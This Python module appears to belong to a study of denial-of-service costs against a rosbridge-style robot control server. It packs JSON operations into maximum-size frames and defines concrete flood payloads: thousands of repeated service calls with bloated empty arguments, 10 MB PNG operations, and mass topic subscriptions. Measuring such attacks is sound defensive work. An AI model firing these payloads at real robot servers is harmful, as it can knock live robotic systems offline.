"""Costly frames: operations of one client, how they become frames, and those whose cost is known."""

from __future__ import annotations

import base64
import io
import json
import math
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any, TypeAlias

from PIL import Image

# Bounds of the server: operations and bytes of a frame, the latter with room for the envelope.
MAX_OPERATIONS = 1000
MAX_FRAME_BYTES = 9_500_000

Frame: TypeAlias = str | bytes


@dataclass(frozen=True)
class Attack:
    """Operations of one client."""

    name: str  # for tables
    # JSON texts; documents of BSON, and texts that are no whole objects, are frames by themselves.
    operations: Sequence[Frame]
    before: Sequence[Frame] = ()  # operations that have been answered before the attack begins
    crowded: bool = False  # True where ten thousand topics of other clients are in use

    @property
    def size_bytes(self) -> int:
        """Size of all operations."""
        return sum(map(len, self.operations))


def joined(operations: Sequence[Frame]) -> list[Frame]:
    """Join operations into as few frames as the server takes."""
    frames: list[Frame] = []
    texts: list[str] = []
    size = 0
    for operation in operations:
        is_whole = isinstance(operation, str) and operation.startswith('{"op"')
        if texts and (not is_whole or len(texts) == MAX_OPERATIONS or size + len(operation) > MAX_FRAME_BYTES):
            frames.append("".join(texts))
            texts, size = [], 0
        if isinstance(operation, str) and is_whole:
            texts.append(operation)
            size += len(operation)
        else:
            frames.append(operation)
    return [*frames, "".join(texts)] if texts else frames


def op(name: str, **fields: Any) -> str:
    """Return the JSON text of an operation."""
    return json.dumps({"op": name, **fields}, separators=(",", ":"))


def call(service: str, args: object = None) -> str:
    """Return the JSON text of a call."""
    return op("call_service", service=service, args={} if args is None else args)


def picture(data: bytes) -> str:
    """Draw data as a PNG, as small as can be, and return its base64 text."""
    side = math.isqrt(-(-len(data) // 3) - 1) + 1
    file = io.BytesIO()
    Image.frombytes("RGB", (side, side), data.ljust(3 * side * side, b"\n")).save(file, "PNG", compress_level=9)
    return base64.b64encode(file.getvalue()).decode()


def known_attacks() -> Iterator[Attack]:
    """Make the attacks whose cost is known."""
    poses: dict[str, Any] = {"poses": [{}] * 100}
    yield Attack("1000 x /check_goals, 100 empty poses", [call("/check_goals", poses)] * 1000)
    for count, items in ((20, 5000), (200, 1000)):
        sequence: dict[str, Any] = {"request": {"items": [{}] * items}}
        attack = [call("/plan_sequence_path", sequence)] * count
        yield Attack(f"{count} x /plan_sequence_path, {items} empty items", attack)
    yield Attack("56 x op png, 10 MB of blanks", [op("png", data=picture(b" " * 9_990_000))] * 56)
    for service in ("/get_urdf", "/rosapi/node_details", "/compute_cartesian_path"):
        yield Attack(f"1000 x {service}", [call(service)] * 1000)
    subscriptions = [op("subscribe", topic=f"/mine/{number}", type="std_msgs/String") for number in range(1000)]
    yield Attack("10,000 topics, 1000 x subscribe", subscriptions, crowded=True)
    for service in ("/rosapi/nodes", "/rosapi/topics"):
        yield Attack(f"10,000 topics, 1000 x {service}", [call(service)] * 1000, crowded=True)
